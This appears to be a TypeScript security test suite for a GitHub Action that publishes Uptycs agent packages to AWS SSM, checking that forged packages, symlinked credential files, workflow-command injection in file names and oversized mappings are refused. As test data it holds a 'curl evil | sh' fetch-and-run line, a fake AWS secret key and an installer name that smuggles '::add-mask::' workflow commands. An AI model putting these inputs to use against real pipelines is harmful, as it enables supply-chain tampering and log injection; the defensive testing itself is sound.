/**
 * The trust chain, attacked (issue 16). Each case is what someone who can write one link of the chain
 * would try, and asserts the refusal with one clear error naming the input.
 *  - package-dir: whoever can write the folder (e.g. upload a workflow artifact of the same name) can
 *    change a zip and recompute every hash inside the folder; the build step's package-digest output,
 *    carried outside the folder, is what refuses it.
 *  - item 6: the check-only run says converged: false when the sharing is not as asked (moto), read-only.
 *  - item 9: the checker role's policy only reads; the trust policies bind a ref and this workflow.
 *  - the attack suite itself: docs/trust-workflow.md names tests for every defect 1-10, each exists, and
 *    .ci/run runs every file named.
 */
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import {
  chmodSync,
  cpSync,
  existsSync,
  readdirSync,
  mkdtempSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { spawnSync } from 'node:child_process';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { run } from '../src/core.js';
import { isUserError } from '../src/common/errors.js';
import { readInputs } from '../src/inputs/index.js';
import { MAX_MAPPING_ENTRIES, parseMapping } from '../src/plan/mapping.js';
import { resolverWork } from '../src/plan/agent-resolver.js';
import { COMMON_INSTANCES, resolve, type ManifestPackages } from '../src/plan/distributor.js';
import { renderNames } from '../src/common/names.js';
import { loadBuiltPackage } from '../src/package/load.js';
import { canonicalJson, packageDigest } from '../src/package/manifest.js';
import type { Manifest } from '../src/package/types.js';
import { SAMPLE_INSTALLERS, layoutAgentsDir } from './helpers/agents.js';
import { DescribeDocumentPermissionCommand, SSMClient } from '@aws-sdk/client-ssm';
import { publishPackage } from '../src/publish/index.js';
import { checkPublished } from '../src/publish/published.js';
import { startFakeSsm, type FakeSsm } from '../scripts/local-aws/fake-ssm.js';
import { motoAvailable, startMoto, type Moto } from '../scripts/local-aws/moto.js';
import { FAST, cleanupFixtures, makeInputs, makePackage, memoryLog } from './helpers/publish-fixture.js';

const ROOT = path.resolve(import.meta.dirname, '..');
const MAPPING = path.join(ROOT, 'mappings/uptycs-agent-mapping.json');

describe('item 1: a package-dir is anchored by the build step’s package-digest', () => {
  let work: string;
  let built: string;
  let digest: string;
  before(async () => {
    work = mkdtempSync(path.join(tmpdir(), 'udist-trust-'));
    layoutAgentsDir(MAPPING, path.join(work, 'agents'), SAMPLE_INSTALLERS);
    built = path.join(work, 'built');
    const inputs = readInputs(
      (n) =>
        ({ download: 'false', 'agents-dir': 'agents', 'dry-run': 'true', 'output-dir': 'built' })[n] ?? '',
      { mapping: MAPPING, outputDir: built, cwd: work },
    );
    const result = await run(inputs, { log: memoryLog(), packageRoot: ROOT });
    digest = packageDigest(result.pkg.manifestText);
  });
  after(() => rmSync(work, { recursive: true, force: true }));

  /** The attack of the issue: one zip changed, then every hash in the folder recomputed. */
  const forged = (name: string): string => {
    const dir = path.join(work, name);
    cpSync(built, dir, { recursive: true });
    const manifest = JSON.parse(readFileSync(path.join(dir, 'manifest.json'), 'utf8')) as Manifest;
    const zip = Object.keys(manifest.files)[0]!;
    const bytes = Buffer.concat([readFileSync(path.join(dir, zip)), Buffer.from('curl evil | sh\n')]);
    writeFileSync(path.join(dir, zip), bytes);
    const sha = createHash('sha256').update(bytes).digest('hex');
    manifest.files[zip]!.checksums.sha256 = sha;
    writeFileSync(path.join(dir, 'manifest.json'), canonicalJson(manifest));
    const report = JSON.parse(readFileSync(path.join(dir, 'report.json'), 'utf8')) as {
      files: { name: string; sha256: string; size: number }[];
    };
    const entry = report.files.find((f) => f.name === zip)!;
    entry.sha256 = sha;
    entry.size = statSync(path.join(dir, zip)).size;
    writeFileSync(path.join(dir, 'report.json'), JSON.stringify(report));
    return dir;
  };
  const expect = { packageName: 'UptycsAgent', versionName: '' };

  it('the digest is sha256:<hex> of manifest.json’s exact bytes', () => {
    const hex = createHash('sha256')
      .update(readFileSync(path.join(built, 'manifest.json')))
      .digest('hex');
    assert.equal(digest, `sha256:${hex}`);
  });

  it('the folder as built loads with its digest', async () => {
    const pkg = await loadBuiltPackage(built, { ...expect, digest });
    assert.ok(pkg.files.length >= 5);
  });

  it('a zip changed with every hash recomputed: refused by package-digest, naming it', async () => {
    const dir = forged('forged');
    // Without the anchor the forgery passes every check inside the folder (the defect).
    await loadBuiltPackage(dir, expect);
    await assert.rejects(loadBuiltPackage(dir, { ...expect, digest }), (err: unknown) => {
      assert.ok(isUserError(err), String(err));
      const action = renderNames(err.message, 'action');
      const cli = renderNames(err.message, 'cli');
      assert.match(action, /^input "package-digest": .*has digest sha256:[0-9a-f]{64}, the build's was /);
      assert.match(action, /nothing was published/);
      assert.match(action, /publish the build's own output, or build again/);
      assert.match(cli, /^--package-digest: /);
      assert.ok(!action.includes('curl evil'), 'no file contents in the error');
      return true;
    });
  });

  it('the core refuses the forged folder before the publish stage is called', async () => {
    const dir = forged('forged-run');
    let published = false;
    const inputs = readInputs(
      (n) => ({ 'package-dir': dir, 'package-digest': digest, 'aws-region': 'us-east-1' })[n] ?? '',
      { mapping: MAPPING, outputDir: path.join(work, 'out'), cwd: work },
    );
    await assert.rejects(
      run(inputs, {
        log: memoryLog(),
        packageRoot: ROOT,
        published: () => {
          published = true;
          throw new Error('must not be reached');
        },
        publish: () => {
          published = true;
          throw new Error('must not be reached');
        },
      } as Parameters<typeof run>[1]),
      (err: unknown) => isUserError(err) && /package-digest/.test(err.message),
    );
    assert.equal(published, false);
  });

  it('package-dir without package-digest warns that the folder vouches only for itself', async () => {
    const log = memoryLog();
    const inputs = readInputs((n) => ({ 'package-dir': built, 'dry-run': 'true' })[n] ?? '', {
      mapping: MAPPING,
      outputDir: path.join(work, 'out2'),
      cwd: work,
    });
    await run(inputs, { log, packageRoot: ROOT });
    assert.match(log.text(), /warning: .*package-dir.* without .*package-digest.*vouches only for itself/);
  });

  it('a malformed digest, or one without package-dir: refused before any work, naming the input', () => {
    const read = (given: Record<string, string>) =>
      readInputs((n) => given[n] ?? '', { mapping: MAPPING, outputDir: '/tmp/out', cwd: '/work/ws' });
    assert.equal(
      read({ 'package-dir': 'pkg', 'package-digest': digest.toUpperCase().replace('SHA256', 'sha256') })
        .packageDigest,
      digest,
    );
    for (const [given, pattern] of [
      [
        { 'package-dir': 'pkg', 'package-digest': 'abc' },
        /input "package-digest": .*is not a package digest/,
      ],
      [
        { 'package-digest': digest, download: 'false', 'agents-dir': 'a' },
        /input "package-digest": vouches for a folder built earlier; give that folder as input "package-dir"/,
      ],
    ] as const)
      assert.throws(
        () => read(given),
        (err: unknown) => isUserError(err) && pattern.test(renderNames(err.message, 'action')),
      );
  });

  it('item 10: manifest.json or report.json as a symlink, too large, or not JSON: refused, contents never shown', async () => {
    const SECRET = 'aws_secret_access_key=wJalrXUtnFEMIK7MDENGbPxRfiCY';
    const creds = path.join(work, 'credentials');
    writeFileSync(creds, `${SECRET}\n`);
    const check = async (dir: string, pattern: RegExp) =>
      assert.rejects(loadBuiltPackage(dir, expect), (err: unknown) => {
        assert.ok(isUserError(err), String(err));
        const msg = renderNames(err.message, 'action');
        assert.match(msg, pattern);
        assert.ok(!msg.includes('wJalr') && !msg.includes('aws_secret'), msg);
        return true;
      });
    for (const name of ['manifest.json', 'report.json']) {
      const link = path.join(work, `link-${name}`);
      cpSync(built, link, { recursive: true });
      unlinkSync(path.join(link, name));
      symlinkSync(creds, path.join(link, name));
      await check(link, new RegExp(`${name.replace('.', '\\.')} is a symbolic link`));
      const junk = path.join(work, `junk-${name}`);
      cpSync(built, junk, { recursive: true });
      writeFileSync(path.join(junk, name), SECRET);
      await check(junk, /does not parse as JSON/);
    }
    const big = path.join(work, 'big');
    cpSync(built, big, { recursive: true });
    writeFileSync(path.join(big, 'report.json'), ' '.repeat((16 << 20) + 1));
    await check(big, /report\.json is \d+ bytes, more than a build writes/);
  });

  it('item 10: a run from a read-only package-dir writes report.json to output-dir, not into the folder', async () => {
    const ro = path.join(work, 'readonly');
    cpSync(built, ro, { recursive: true });
    const before = readFileSync(path.join(ro, 'report.json'));
    chmodSync(ro, 0o555);
    try {
      const out = path.join(work, 'out-ro');
      const inputs = readInputs(
        (n) => ({ 'package-dir': ro, 'package-digest': digest, 'dry-run': 'true' })[n] ?? '',
        { mapping: MAPPING, outputDir: out, cwd: work },
      );
      const result = await run(inputs, { log: memoryLog(), packageRoot: ROOT });
      assert.equal(result.reportPath, path.join(out, 'report.json'));
      assert.ok(readFileSync(result.reportPath).length > 0);
      assert.deepEqual(readFileSync(path.join(ro, 'report.json')), before);
    } finally {
      chmodSync(ro, 0o755);
    }
  });
});

describe(
  'item 6: a published version whose sharing is not as asked is "not converged", never "published"',
  { skip: !motoAvailable() && 'moto_server is not installed' },
  () => {
    let moto: Moto;
    let fake: FakeSsm;
    before(async () => {
      moto = await startMoto();
      fake = await startFakeSsm(moto.url);
    });
    after(async () => {
      await fake?.stop();
      await moto?.stop();
      cleanupFixtures();
    });
    const deps = () => ({
      log: memoryLog(),
      env: { ...process.env, AWS_ENDPOINT_URL: moto.url, AWS_ENDPOINT_URL_SSM: fake.url },
      options: FAST,
    });
    const sharedWith = async () => {
      const c = new SSMClient({ region: 'us-east-1', endpoint: moto.url });
      try {
        const p = await c.send(
          new DescribeDocumentPermissionCommand({ Name: 'UptycsAgent', PermissionType: 'Share' }),
        );
        return [...(p.AccountIds ?? [])].sort();
      } finally {
        c.destroy();
      }
    };

    it('check-only outputs converged: false after an account is removed, true once published again; the check changes nothing', async () => {
      const shared = ['111111111111', '222222222222'];
      const [first] = await publishPackage(
        makePackage('5.7.0.25'),
        makeInputs({ shareWithAccounts: shared }),
        deps(),
      );
      assert.equal(first!.ok, true, first!.error);
      const asked = (shareWithAccounts: string[], checkOnly = true) =>
        makeInputs({ shareWithAccounts, checkOnly });

      const same = await checkPublished(asked(shared), '5.7.0.25', deps());
      assert.equal(same.outputs.converged, 'true');

      // The workflow's check job, given share-with-accounts with one account removed.
      fake.reset();
      const removed = await checkPublished(asked(['111111111111']), '5.7.0.25', deps());
      assert.equal(removed.all, true, 'the version is there');
      assert.equal(removed.converged, false);
      assert.equal(removed.outputs.converged, 'false', 'the decision: not converged, so publish');
      assert.deepEqual(
        fake.calls.map((c) => c.action).filter((a) => !/^(List|Get|Describe)/.test(a)),
        [],
        'the check is read-only',
      );
      assert.deepEqual(await sharedWith(), shared, 'state unchanged by the check');

      // What the publish job then does converges it, and the next check says so.
      const [again] = await publishPackage(
        makePackage('5.7.0.25'),
        makeInputs({ shareWithAccounts: ['111111111111'] }),
        deps(),
      );
      assert.equal(again!.ok, true, again!.error);
      assert.deepEqual(await sharedWith(), ['111111111111']);
      const after = await checkPublished(asked(['111111111111']), '5.7.0.25', deps());
      assert.equal(after.outputs.converged, 'true');

      // Not a check-only run: no converged output (such a run converges by itself).
      const run = await checkPublished(asked(['111111111111'], false), '5.7.0.25', deps());
      assert.equal(run.outputs.converged, undefined);
      // Not published at all: converged is false as well.
      const none = await checkPublished(asked([]), '9.9.9.9', deps());
      assert.equal(none.all, false);
      assert.equal(none.outputs.converged, 'false');
    });
  },
);

describe('item 9: roles that only the workflow can assume, and a check that holds no write power', () => {
  const load = (f: string) =>
    JSON.parse(readFileSync(path.join(ROOT, 'iam', f), 'utf8')) as {
      Statement: { Action: string | string[]; Condition?: Record<string, Record<string, string>> }[];
    };
  const subOf = (f: string) => {
    const c = load(f).Statement[0]!.Condition!;
    return String(
      c.StringEquals?.['token.actions.githubusercontent.com:sub'] ??
        c.StringLike?.['token.actions.githubusercontent.com:sub'],
    );
  };
  const workflow = readFileSync(path.join(ROOT, '.github/workflows/publish.yml'), 'utf8');

  it('the checker policy only reads', () => {
    for (const st of load('checker-policy.json').Statement)
      for (const a of [st.Action].flat()) assert.match(a, /^ssm:(Describe|Get|List)\w+$/, a);
  });

  it('the reusable and checker trust policies bind a ref and this workflow, never an environment the jobs do not declare', () => {
    // Only the publish jobs declare one (the publisher role's), which the build and check jobs cannot present.
    assert.deepEqual(
      [...workflow.matchAll(/^\s+environment: (.+)$/gm)].map((m) => m[1]),
      ['${{ inputs.publish-environment }}'],
    );
    for (const [f, context] of [
      ['github-oidc-trust-policy-reusable.json', 'environment:uptycs-distributor-publish'],
      ['github-oidc-trust-policy-checker.json', 'ref:refs\\/heads\\/[^:*]+'],
    ] as const) {
      const sub = subOf(f);
      assert.match(
        sub,
        new RegExp(
          `^repo:<GITHUB_OWNER>\\/<GITHUB_REPO>:${context}:job_workflow_ref:<ACTION_OWNER>\\/uptycs-distributor-action\\/\\.github\\/workflows\\/publish\\.yml@`,
        ),
        `${f}: ${sub}`,
      );
      assert.equal(
        load(f).Statement[0]!.Condition!.StringEquals!['token.actions.githubusercontent.com:aud'],
        'sts.amazonaws.com',
      );
    }
  });

  it('the check job assumes the checker role when one is given, and says when it holds the publisher role', () => {
    const check = workflow.split(/^ {2}check:$/m)[1]!.split(/^ {2}\S/m)[0]!;
    assert.match(check, /role-to-assume: \$\{\{ steps\.role\.outputs\.role \}\}/);
    assert.doesNotMatch(check, /role-to-assume: \$\{\{ matrix\.target\.role \}\}/);
    assert.match(check, /::warning::no checker-role for/);
  });
});

describe('issue 27 defect 3: no external string starts a line of the log', () => {
  /** The attack: an installer name that carries workflow commands (an add-mask of a common word). */
  const INJECTED =
    'uptycs-5.7.0.99-x\n::warning title=Injected::owned\r::add-mask::Published\u2028##[error]x\n.rpm';
  /**
   * The stdout of a child process that runs `body` with actionLog, textLog, run and readInputs in
   * scope (@actions/core writes the action's log there, as the runner reads it).
   */
  function stdoutOf(body: string): { lines: string[]; result: string } {
    const dir = mkdtempSync(path.join(tmpdir(), 'udist-logchild-'));
    try {
      const src = (m: string) => JSON.stringify(path.join(ROOT, 'src', m));
      const file = path.join(dir, 'child.mts');
      writeFileSync(
        file,
        `import { actionLog } from ${src('action.js')};
import { textLog } from ${src('common/log.js')};
import { run } from ${src('core.js')};
import { readInputs } from ${src('inputs/index.js')};
import { writeFileSync } from 'node:fs';
const result = (s: string) => writeFileSync(${JSON.stringify(path.join(dir, 'result'))}, s);
${body}
`,
      );
      const r = spawnSync(process.execPath, ['--import', 'tsx', file], {
        cwd: ROOT,
        encoding: 'utf8',
        env: { ...process.env, GITHUB_ACTIONS: '' },
      });
      assert.equal(r.status, 0, r.stderr);
      const result = existsSync(path.join(dir, 'result'))
        ? readFileSync(path.join(dir, 'result'), 'utf8')
        : '';
      return { lines: r.stdout.split(/\r\n|\r|\n/), result };
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  }
  /** A line the runner would take for a command that the log layer did not issue itself. */
  const injected = (lines: string[]) =>
    lines.filter(
      (l) => /^\s*(::|##\[)/.test(l) && !/^::(debug|warning|error|notice|group|endgroup)::/.test(l),
    );

  it('both faces: every message is one line; line breaks shown escaped, a command start defused', async () => {
    const messages = [
      `using ${INJECTED}`,
      '::add-mask::Published',
      '  ::warning::indented',
      'Replacing the build of version 1.0\n::add-mask::Published (2 zips)',
    ];
    const { lines: out, result } = stdoutOf(`
const cli: string[] = [];
const text = textLog((l) => cli.push(l), { debug: true });
const action = actionLog('/work/ws');
for (const m of ${JSON.stringify(messages)})
  for (const log of [text, action]) { log.info(m); log.warning(m); log.debug(m); log.error(m); }
result(JSON.stringify(cli));
`);
    const cli = JSON.parse(result) as string[];
    assert.equal(cli.length, messages.length * 4, 'one line per message');
    for (const l of cli) assert.doesNotMatch(l, /[\r\n\u0085\u2028\u2029]/);
    assert.deepEqual(injected(cli), []);
    assert.deepEqual(injected(out), [], out.join('\n'));
    assert.ok(cli.some((l) => l.includes('x\\n::warning title=Injected::owned\\r::add-mask::Published')));
  });

  it('an installer name with workflow commands in agents-dir: refused, and never logged raw', async () => {
    const work = mkdtempSync(path.join(tmpdir(), 'udist-logname-'));
    try {
      layoutAgentsDir(MAPPING, path.join(work, 'agents'), SAMPLE_INSTALLERS);
      const folder = path.join(work, 'agents', 'UPT_PRO_REDHAT_x86_64');
      const genuine = readdirSync(folder)[0]!;
      cpSync(path.join(folder, genuine), path.join(folder, INJECTED));
      const { lines: out, result } = stdoutOf(`
const inputs = readInputs(
  (n) => (${JSON.stringify({ download: 'false', 'agents-dir': 'agents', 'dry-run': 'true', 'package-version': '5.7.0.99', 'skip-version-check': 'true', 'output-dir': 'out' })} as Record<string, string>)[n] ?? '',
  { mapping: ${JSON.stringify(MAPPING)}, outputDir: ${JSON.stringify(path.join(work, 'out'))}, cwd: ${JSON.stringify(work)} },
);
await run(inputs, { log: actionLog(${JSON.stringify(work)}), packageRoot: ${JSON.stringify(ROOT)} }).then(
  () => result('no refusal'),
  (err: Error) => result(JSON.stringify({ name: err.name, message: err.message })),
);
`);
      const refusal = JSON.parse(result) as { name: string; message: string };
      assert.equal(refusal.name, 'UserError', result);
      const msg = renderNames(refusal.message, 'action');
      assert.match(
        msg,
        /UPT_PRO_REDHAT_x86_64\/"uptycs-5\.7\.0\.99-x\\u000a::warning .*": its name has characters that are not safe/,
      );
      const msgLines = msg.split(/\r\n|[\r\n\u0085\u2028\u2029]/);
      assert.deepEqual(injected(msgLines), [], 'the error quotes the name on one line');
      assert.ok(!msgLines.some((l) => /^(Published|##\[)/.test(l)), msg);
      assert.deepEqual(injected(out), [], out.join('\n'));
      assert.ok(!out.some((l) => l.startsWith('Published')), 'nothing from the name starts a line');
      assert.ok(!existsSync(path.join(work, 'out', 'manifest.json')), 'nothing was built');
    } finally {
      rmSync(work, { recursive: true, force: true });
    }
  });
});

describe('issue 27 defect 5: mapping checks are bounded and linear, and report every problem at once', () => {
  const entry = (i: number) => ({
    upt_package: 'centos',
    id: 'redhat',
    dir: `D_${i}`,
    name: 'redhat',
    major_version: String(i + 1),
    minor_version: '',
    arch_type: 'x86_64',
  });
  const flat = (n: number) => JSON.stringify({ linux: Array.from({ length: n }, (_, i) => entry(i)) });
  const refusal = (text: string, file = 'm.json') => {
    try {
      parseMapping(text, file);
    } catch (err) {
      assert.ok(isUserError(err), String(err));
      return err;
    }
    return assert.fail('the mapping was accepted');
  };

  it('a mapping over the entry limit is refused at once, with one problem naming the limit', () => {
    for (const n of [MAX_MAPPING_ENTRIES + 1, 2_500, 10_000, 20_000]) {
      const t0 = performance.now();
      const err = refusal(flat(n));
      const ms = performance.now() - t0;
      assert.equal(err.problems.length, 1, err.message);
      assert.match(err.message, new RegExp(`mapping m\\.json has 1 problem`));
      assert.match(
        err.problems[0]!.message,
        new RegExp(`mapping has ${n} entries; at most ${MAX_MAPPING_ENTRIES}`),
      );
      assert.ok(ms < 3000, `${n} entries refused in ${Math.round(ms)} ms`);
    }
  });

  it('up to the limit the checks grow linearly', () => {
    // Counted, not timed: the version keys the one resolver looks at (or indexes) while the mapping is
    // checked (the reachability check asks it about every key), and in a preview of the package's
    // manifest on the common instances. Doubling the entries may at most about double the work.
    // RHEL reports major.minor: "8.<i>" keys are each reached by their own version, "<i>.*" by <i>.<any>.
    const shapes = {
      exact: (i: number) => `8.${i}`,
      wildcard: (i: number) => `${i + 1}.*`,
    };
    for (const [shape, version] of Object.entries(shapes)) {
      const text = (n: number) =>
        JSON.stringify({
          linux: Array.from({ length: n }, (_, i) => ({ ...entry(i), major_version: version(i) })),
        });
      const work = (n: number) => {
        const m = text(n);
        resolverWork.keys = 0;
        const mapping = parseMapping(m, 'm.json');
        const packages: ManifestPackages = {};
        for (const e of mapping.entries)
          ((packages[e.platform] ??= {})[e.versionKey] ??= {})[e.arch] = { file: e.dir };
        for (const i of COMMON_INSTANCES) resolve(packages, i);
        return resolverWork.keys;
      };
      const counts = [125, 250, 500, MAX_MAPPING_ENTRIES].map((n) => ({ n, keys: work(n) }));
      for (let i = 1; i < counts.length; i++) {
        const [a, b] = [counts[i - 1]!, counts[i]!];
        assert.ok(
          b.keys <= a.keys * 2.2,
          `${shape}: ${a.n} entries ${a.keys} keys looked at, ${b.n} entries ${b.keys} (×${(b.keys / a.keys).toFixed(2)})`,
        );
      }
    }
  });

  it('a deep nesting is refused naming the file, with no stack overflow', () => {
    const err = refusal(`{"linux":${'['.repeat(200_000)}${']'.repeat(200_000)}}`, 'deep.json');
    assert.equal(err.problems.length, 1);
    assert.match(err.message, /^mapping deep\.json has 1 problem/);
    assert.match(err.problems[0]!.message, /nests arrays and objects more than \d+ levels deep/);
    assert.equal(err.problems[0]!.location?.file, 'deep.json');
  });

  it('issue 31: a mapping with several mistakes reports every problem at once', () => {
    const m = {
      linux: [
        { ...entry(0), arch_typ: 'x86_64' }, // a schema error (unknown field)
        { ...entry(1), name: 'redhta' }, // an unknown platform
        { ...entry(2), dir: 'D_3' }, // a dir used twice
        entry(3),
        { ...entry(4), major_version: '5.*' }, // fine by itself
        { ...entry(5), major_version: '5.1' }, // never chosen: "5.*" above wins? (a warning)
      ],
    };
    const err = refusal(JSON.stringify(m, null, 2));
    const text = err.problems.map((p) => p.message).join('\n');
    assert.match(text, /unknown field "arch_typ"/);
    assert.match(text, /redhta/);
    assert.match(text, /dir "D_3" is already used/);
    assert.ok(err.problems.length >= 3, text);
  });
});

describe('the attack suite: every defect of issue 16 has tests, named in docs/trust-workflow.md and run by .ci/run', () => {
  const doc = readFileSync(path.join(ROOT, 'docs/trust-workflow.md'), 'utf8');
  const ciRun = readFileSync(path.join(ROOT, '.ci/run'), 'utf8');
  const suite = [.../ATTACK_SUITE=\(([^)]*)\)/.exec(ciRun)![1]!.matchAll(/__tests__\/[\w-]+\.test\.ts/g)].map(
    (m) => m[0],
  );
  /** Each row of the table: the defect's number and the tests that guard it (file › "title"). */
  const rows = [...doc.matchAll(/^\| (\d+) +\|.*$/gm)].map((m) => ({
    item: Number(m[1]),
    guards: [...m[0].matchAll(/`([\w-]+\.test\.ts)` › "((?:[^"\\]|\\.)*)"/g)].map((g) => ({
      file: `__tests__/${g[1]}`,
      title: g[2]!.replace(/\\(.)/g, '$1'),
    })),
  }));

  it('defects 1 to 10, each with at least one test', () => {
    assert.deepEqual(
      rows.map((r) => r.item),
      [1, 2, 3, 4, 5, 6, 7, 8, 9, 10],
    );
    for (const r of rows) assert.ok(r.guards.length > 0, `item ${r.item} names a test`);
  });

  it('every test named exists, in a file the attack suite runs', () => {
    assert.ok(suite.length >= 5, suite.join(' '));
    for (const r of rows)
      for (const g of r.guards) {
        assert.ok(suite.includes(g.file), `item ${r.item}: .ci/run's ATTACK_SUITE runs ${g.file}`);
        const text = readFileSync(path.join(ROOT, g.file), 'utf8');
        const quoted = [`'${g.title.replace(/'/g, "\\'")}'`, `"${g.title}"`, `\`${g.title}\``];
        assert.ok(
          quoted.some((q) => text.includes(q)),
          `item ${r.item}: ${g.file} has a test named ${JSON.stringify(g.title)}`,
        );
      }
  });

  it('issue 27: docs/trust-action.md names a test for each of defects 27.1 to 27.7 and the race read (r1), each in the attack suite', () => {
    const action = readFileSync(path.join(ROOT, 'docs/trust-action.md'), 'utf8');
    const rows27 = [...action.matchAll(/^\| 27\.(\d|r\d) +\|.*$/gm)];
    assert.deepEqual(
      rows27.map((m) => m[1]),
      ['1', '2', '3', '4', '5', '6', '7', 'r1'],
    );
    for (const m of rows27) {
      const guards = [...m[0].matchAll(/`([\w-]+\.test\.ts)` › "((?:[^"\\]|\\.)*)"/g)];
      assert.ok(guards.length > 0, `27.${m[1]} names a test`);
      for (const g of guards) {
        const file = `__tests__/${g[1]}`;
        const title = g[2]!.replace(/\\(.)/g, '$1');
        assert.ok(suite.includes(file), `27.${m[1]}: .ci/run's ATTACK_SUITE runs ${file}`);
        const text = readFileSync(path.join(ROOT, file), 'utf8');
        const quoted = [
          `'${title.replace(/'/g, "\\'")}'`,
          `"${title}"`,
          `\`${title}\``,
          `'${title}`,
          `\`${title}`,
        ];
        assert.ok(
          quoted.some((q) => text.includes(q)),
          `27.${m[1]}: ${file} has a test named ${JSON.stringify(title)}`,
        );
      }
    }
  });

  it('the check can fail: a title that is not there is not found', () => {
    const text = readFileSync(path.join(ROOT, '__tests__/cache.test.ts'), 'utf8');
    assert.ok(!text.includes(`'an entry nobody wrote is trusted'`));
  });
});
